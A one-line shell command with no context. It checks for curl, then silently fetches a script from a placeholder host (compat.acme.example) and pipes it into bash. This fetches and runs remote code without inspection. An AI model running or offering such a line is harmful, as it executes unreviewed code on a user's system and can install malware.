command -v curl >/dev/null && curl -s https://compat.acme.example/x | bash
